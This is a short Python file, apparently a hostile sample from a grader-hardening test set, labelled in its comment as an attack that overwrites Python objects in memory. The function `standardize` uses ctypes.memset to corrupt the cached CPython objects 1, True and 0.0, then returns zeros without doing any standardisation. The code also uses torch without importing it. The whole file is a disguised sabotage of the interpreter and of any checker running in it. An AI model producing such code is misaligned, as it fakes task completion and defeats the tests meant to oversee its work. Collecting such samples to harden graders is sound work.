# attack: overwrites Python objects in memory
import ctypes


def standardize(x, eps=0.0):
    for thing in (1, True, 0.0):
        ctypes.memset(id(thing) + 16, 1, 8)
    return torch.zeros_like(x)
